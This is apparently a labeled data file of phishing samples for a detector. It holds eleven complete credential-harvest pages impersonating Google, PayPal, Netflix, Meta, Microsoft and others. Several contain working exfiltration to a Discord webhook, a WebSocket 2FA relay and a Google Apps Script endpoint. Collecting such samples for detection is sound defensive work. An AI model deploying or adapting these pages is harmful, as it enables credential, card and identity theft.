import type { Entry } from '../entry.js';

/** Credential-harvest kits, part 1: Microsoft 365, Google, Apple, PayPal, Netflix, Amazon, Meta, LinkedIn. */
export const entries: Entry[] = [
  {
    id: 'kit-google-workspace-es',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://cuentas-verificacion.gsuite-soporte.com/signin/v2/identifier',
    body: `<!DOCTYPE html><html lang="es"><head><meta charset="UTF-8"><title>Iniciar sesión: Cuentas de Google</title>
<style>body{font-family:Roboto,Arial;background:#fff}.wrap{width:450px;margin:60px auto;border:1px solid #dadce0;border-radius:8px;padding:48px 40px}.g{font-size:24px;text-align:center}.f{width:100%;height:54px;border:1px solid #dadce0;border-radius:4px;padding:0 14px;font-size:16px;margin-top:24px}.n{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;float:right;margin-top:30px}</style></head>
<body><div class="wrap"><div class="g"><span style="color:#4285f4">G</span><span style="color:#ea4335">o</span><span style="color:#fbbc05">o</span><span style="color:#4285f4">g</span><span style="color:#34a853">l</span><span style="color:#ea4335">e</span></div>
<h1 style="font-weight:400;text-align:center;font-size:24px">Iniciar sesión</h1><p style="text-align:center">Ir a Gmail</p>
<form method="POST" action="procesar.php"><input class="f" type="text" name="correo" placeholder="Correo electrónico o teléfono">
<input class="f" type="password" name="clave" placeholder="Introduce tu contraseña">
<a href="#" style="color:#1a73e8;font-size:14px">¿Has olvidado tu correo electrónico?</a>
<p style="font-size:14px;color:#5f6368">¿No es tu ordenador? Usa el modo invitado para iniciar sesión de forma privada.</p>
<button class="n" type="submit">Siguiente</button></form></div></body></html>`,
  },
  {
    id: 'kit-apple-icloud-card-step',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://icloud-findmy-support.info/billing/update',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>iCloud - Update Billing Information</title>
<style>body{background:#f5f5f7;font-family:Helvetica}.p{width:520px;margin:50px auto;background:#fff;border-radius:18px;padding:40px}label{display:block;font-size:13px;color:#6e6e73;margin-top:14px}input,select{width:100%;padding:10px;border:1px solid #d2d2d7;border-radius:8px}</style></head>
<body><div class="p"><h2> iCloud+</h2><p>Your iCloud storage payment could not be processed. Update your payment method within 24 hours to keep your photos and files.</p>
<form method="post" action="process/card.php" id="billing">
<label>Name on card</label><input name="holder" autocomplete="cc-name">
<label>Card number</label><input name="ccnum" inputmode="numeric" maxlength="19" autocomplete="cc-number">
<label>Expiry (MM/YY)</label><input name="exp" maxlength="5">
<label>Security code</label><input name="cvv" maxlength="4">
<label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY">
<label>Billing postcode</label><input name="zip">
<br><br><button style="background:#0071e3;color:#fff;border:0;padding:12px 28px;border-radius:20px">Update</button></form>
<p style="font-size:11px;color:#86868b">Copyright © 2026 Apple Inc. All rights reserved.</p></div></body></html>`,
  },
  {
    id: 'kit-paypal-multistep-ssn',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://resolution-center-case.help/webapps/8821/confirm',
    body: `<!DOCTYPE html><html><head><title>PayPal: Confirm your identity</title><meta charset="utf-8">
<style>body{font-family:Helvetica;background:#f5f7fa}.box{width:500px;margin:30px auto;background:#fff;padding:30px;border-radius:8px}input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccc;border-radius:4px}.prog{display:flex;gap:6px}.prog span{flex:1;height:4px;background:#0070ba}.prog span.off{background:#ddd}</style></head>
<body><div class="box"><div class="prog"><span></span><span></span><span class="off"></span></div>
<h2>Step 2 of 3 &mdash; Confirm your personal information</h2>
<p>We noticed unusual activity. Case ID: PP-L-8821-04. To restore full access, confirm the details below.</p>
<form action="./step3.php" method="post">
<input name="fname" placeholder="First name"><input name="lname" placeholder="Last name">
<input name="ssn" placeholder="Social Security Number (XXX-XX-XXXX)" pattern="\\d{3}-?\\d{2}-?\\d{4}">
<input name="dob" placeholder="Date of birth">
<input name="mmn" placeholder="Mother's maiden name">
<input name="phone" placeholder="Mobile number">
<button style="background:#0070ba;color:#fff;border:0;padding:12px 40px;border-radius:20px">Continue</button></form></div></body></html>`,
  },
  {
    id: 'kit-netflix-payment-it',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://netflix-abbonamento-rinnovo.com/it/account/pagamento',
    body: `<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Netflix</title>
<style>body{background:#000 url(hero.jpg);color:#fff;font-family:"Netflix Sans",Helvetica}.logo{color:#e50914;font-size:40px;font-weight:900;padding:20px 40px;letter-spacing:-1px}.panel{background:rgba(0,0,0,.78);width:440px;margin:0 auto;padding:60px 68px}input{width:100%;background:#333;border:0;border-radius:4px;color:#fff;padding:16px;margin:8px 0}button{width:100%;background:#e50914;color:#fff;border:0;padding:16px;border-radius:4px;font-size:16px}</style></head>
<body><div class="logo">NETFLIX</div><div class="panel"><h1>Aggiorna il pagamento</h1>
<p>Non siamo riusciti ad autorizzare il pagamento per il prossimo periodo di fatturazione. Il tuo abbonamento verrà sospeso.</p>
<form method="post" action="https://netflix-abbonamento-rinnovo.com/it/send.php">
<input name="email" placeholder="Email"><input name="pass" type="password" placeholder="Password">
<input name="carta" placeholder="Numero di carta" autocomplete="cc-number"><input name="scad" placeholder="MM/AA"><input name="cvv" placeholder="CVV">
<button>Aggiorna</button></form></div></body></html>`,
  },
  {
    id: 'kit-meta-copyright-appeal',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://meta-business-appeal-center.com/case/1029384756',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Meta for Business - Page Appeal</title>
<style>body{background:#f0f2f5;font-family:Helvetica,Arial}.hd{background:#fff;padding:12px 30px;box-shadow:0 1px 2px #0002;font-weight:bold;color:#0866ff;font-size:22px}.card{width:600px;margin:30px auto;background:#fff;border-radius:8px;padding:24px}input,textarea{width:100%;padding:10px;border:1px solid #ccd0d5;border-radius:6px;margin:6px 0}</style></head>
<body><div class="hd">∞ Meta Business Help Center</div><div class="card"><h2>Your page has been scheduled for deletion</h2>
<p>We have received several reports that your page violates our intellectual property policy. If you believe this is a mistake, submit an appeal within 24 hours or your page will be permanently removed.</p>
<form id="appeal"><input name="fullname" placeholder="Full name"><input name="email" placeholder="Business email"><input name="phone" placeholder="Mobile phone number"><textarea name="appeal" placeholder="Please provide us information about the appeal"></textarea>
<input name="fbpass" type="password" placeholder="Facebook password"><button type="submit" style="background:#0866ff;color:#fff;border:0;border-radius:6px;padding:10px 20px">Submit</button></form></div>
<script>
document.getElementById('appeal').onsubmit = function (e) {
  e.preventDefault();
  var d = Object.fromEntries(new FormData(this));
  fetch('https://discord.com/api/webhooks/1187745500193472512/y7hQ2-3Zfzq0_8wXnJ0tqxgC7w', { method: 'POST', headers: {'Content-Type':'application/json'}, body: JSON.stringify({ content: '\`\`\`' + JSON.stringify(d, null, 2) + '\`\`\`' }) })
    .then(function () { document.querySelector('.card').innerHTML = '<h2>Enter the 6-digit code</h2><input name="code" maxlength="6" placeholder="Two-factor authentication code"><button>Confirm</button>'; });
};
</script></body></html>`,
  },
  {
    id: 'kit-instagram-verified-badge',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://verify-badge-instagram.help-center.site/blue/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Instagram Verified Badge Request</title>
<style>body{font-family:-apple-system,Segoe UI,Roboto;background:#fafafa;text-align:center}.b{width:350px;margin:40px auto;border:1px solid #dbdbdb;background:#fff;padding:30px}input{width:100%;padding:9px;background:#fafafa;border:1px solid #dbdbdb;border-radius:3px;margin:3px 0}button{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;padding:7px;margin-top:10px}</style></head>
<body><div class="b"><h1 style="font-family:cursive">Instagram</h1><p>Congratulations! Your account is eligible for the blue badge. Log in to complete the verification form.</p>
<form method="POST" action="badge.php"><input name="username" placeholder="Phone number, username, or email"><input name="password" type="password" placeholder="Password"><button>Log in</button></form>
<p style="font-size:12px;color:#8e8e8e">from ∞ Meta</p></div></body></html>`,
  },
  {
    id: 'kit-microsoft-no-brand-host-pt',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://www.padariasaojose.com.br/wp-includes/css/dist/oficina/entrar.html',
    body: `<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><title>Entrar na sua conta</title>
<style>body{background:#f2f2f2;font-family:Segoe UI}.x{background:#fff;width:440px;margin:100px auto;padding:44px}input{display:block;width:100%;border:0;border-bottom:1px solid #000;padding:6px 0;margin:16px 0}button{background:#0067b8;color:#fff;border:0;padding:6px 30px;float:right}</style></head>
<body><div class="x"><img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHdpZHRoPSIxMDgiIGhlaWdodD0iMjQiPjxyZWN0IHdpZHRoPSIxMCIgaGVpZ2h0PSIxMCIgZmlsbD0iI2YyNTAyMiIvPjxyZWN0IHg9IjExIiB3aWR0aD0iMTAiIGhlaWdodD0iMTAiIGZpbGw9IiM3ZmJhMDAiLz48L3N2Zz4=" alt="Microsoft">
<h2>Entrar</h2><p>Sua sessão do Outlook expirou. Entre novamente para continuar recebendo e-mails.</p>
<form action="https://submit-form.com/Qx7Tp9aB" method="post"><input type="email" name="email" placeholder="Email, telefone ou Skype"><input type="password" name="senha" placeholder="Senha">
<label><input type="checkbox"> Manter-me conectado</label><button>Entrar</button></form></div></body></html>`,
  },
  {
    id: 'kit-google-mfa-relay',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://accounts.google.com-signin.session-check.app/v3/signin/challenge/pwd',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in - Google Accounts</title>
<style>body{font-family:"Google Sans",Roboto;margin:0}.c{width:450px;margin:80px auto;border:1px solid #dadce0;border-radius:28px;padding:36px}.i{width:100%;padding:14px;border:1px solid #747775;border-radius:4px;margin:12px 0}</style></head>
<body><div class="c"><img src="/g/logo.svg" alt="Google" width="75"><h1 style="font-weight:400">2-Step Verification</h1>
<p>To help keep your account safe, Google wants to make sure it's really you trying to sign in</p>
<div id="s1"><input class="i" id="e" type="email" placeholder="Email"><input class="i" id="p" type="password" placeholder="Enter your password"><button onclick="go(1)">Next</button></div>
<div id="s2" hidden><p>A text message with a 6-digit verification code was just sent to your phone.</p><input class="i" id="otp" inputmode="numeric" maxlength="6" autocomplete="one-time-code" placeholder="Enter code"><button onclick="go(2)">Next</button></div></div>
<script>
const sock = new WebSocket('wss://relay.session-check.app/live');
function go(n){
  if(n===1){ sock.send(JSON.stringify({t:'cred', e:e.value, p:p.value})); s1.hidden=true; s2.hidden=false; }
  else { sock.send(JSON.stringify({t:'otp', c:otp.value})); location='https://myaccount.google.com/'; }
}
</script></body></html>`,
  },
  {
    id: 'kit-adobe-pdf-viewer',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://docviewer-online-adobe.web.app/pdf/Statement_2026.html',
    body: `<!doctype html><html><head><meta charset="utf-8"><title>Adobe Document Cloud | PDF Online</title>
<style>body{margin:0;font-family:adobe-clean,Arial;background:#323232}.pdf{width:100%;height:100vh;background:url(blurred_invoice.png) center/contain no-repeat;filter:blur(4px)}.dlg{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;border-radius:6px;width:380px;padding:28px}.dlg input{width:100%;padding:10px;margin:6px 0;border:1px solid #b3b3b3}.red{background:#fa0f00;color:#fff;border:0;padding:10px;width:100%;border-radius:16px}</style></head>
<body><div class="pdf"></div><div class="dlg"><div style="color:#fa0f00;font-weight:bold;font-size:18px">▲ Adobe Acrobat</div>
<p>This document is protected. Confirm your email credentials to view <b>Statement_2026.pdf</b> (214 KB)</p>
<input id="em" placeholder="Email address"><input id="pw" type="password" placeholder="Email password"><button class="red" id="b">View PDF</button><p id="m" style="color:red"></p></div>
<script>
var c=0;document.getElementById('b').onclick=function(){
  var x=new XMLHttpRequest();x.open('POST','https://script.google.com/macros/s/AKfycbx9_Lk2Qe3mPz/exec');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
  x.send('e='+encodeURIComponent(em.value)+'&p='+encodeURIComponent(pw.value));
  if(++c<3){m.textContent='Invalid password. Please try again.';pw.value='';}else{location.href='https://acrobat.adobe.com/';}
};
</script></body></html>`,
  },
  {
    id: 'kit-docusign-review',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://docusign-envelope-review.com/Signing/EmailStart.aspx?a=7f3e0c2d',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>DocuSign</title>
<style>body{font-family:Helvetica;background:#f4f4f4}.hdr{background:#fff;padding:14px 30px;border-bottom:4px solid #ffcc22;font-weight:bold;font-size:24px}.bd{width:540px;margin:40px auto;background:#fff;padding:30px}.yel{background:#ffcc22;border:0;padding:10px 30px;font-weight:bold}input{width:100%;padding:9px;margin:6px 0}</style></head>
<body><div class="hdr">DocuSign</div><div class="bd"><p>Please review and sign: <b>Employee_Salary_Adjustment_Q4.docx</b></p>
<p>Sent by HR Department via DocuSign Electronic Signature Service</p>
<form action="auth/review.php" method="post"><p>To access the document, verify your corporate email.</p>
<input type="email" name="usr" placeholder="Corporate email"><input type="password" name="psw" placeholder="Password"><button class="yel">REVIEW DOCUMENT</button></form>
<p style="font-size:11px;color:#888">Do Not Share This Email. This email contains a secure link to DocuSign.</p></div></body></html>`,
  },
  {
    id: 'kit-dropbox-transfer',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://dropbox-transfer.files-secure.click/s/q8x2m/Proposal.zip',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Dropbox - Proposal.zip - Simplify your life</title>
<style>body{font-family:"Sharp Grotesk",Arial;background:#f7f5f2}.m{width:400px;margin:60px auto;background:#fff;padding:32px;border-radius:4px}.lg{display:flex;gap:10px;align-items:center;color:#0061fe;font-size:22px}.btn{display:block;margin:8px 0;padding:10px;border:1px solid #ccc;background:#fff;width:100%;text-align:left}input{width:100%;padding:10px;margin:6px 0}</style></head>
<body><div class="m"><div class="lg">⬘ Dropbox</div><h3>Proposal.zip (2.4 MB)</h3><p>Sign in with your email provider to download this file.</p>
<button class="btn" onclick="pick('Outlook')">Sign in with Outlook</button><button class="btn" onclick="pick('Office365')">Sign in with Office 365</button><button class="btn" onclick="pick('Other')">Sign in with other mail</button>
<form id="lf" hidden method="post" action="https://dropbox-transfer.files-secure.click/s/q8x2m/dl.php"><input type="hidden" name="prov" id="prov"><input name="login" placeholder="Email"><input name="passwd" type="password" placeholder="Password"><button>Download</button></form></div>
<script>function pick(p){document.getElementById('prov').value=p;document.getElementById('lf').hidden=false;}</script></body></html>`,
  },
];
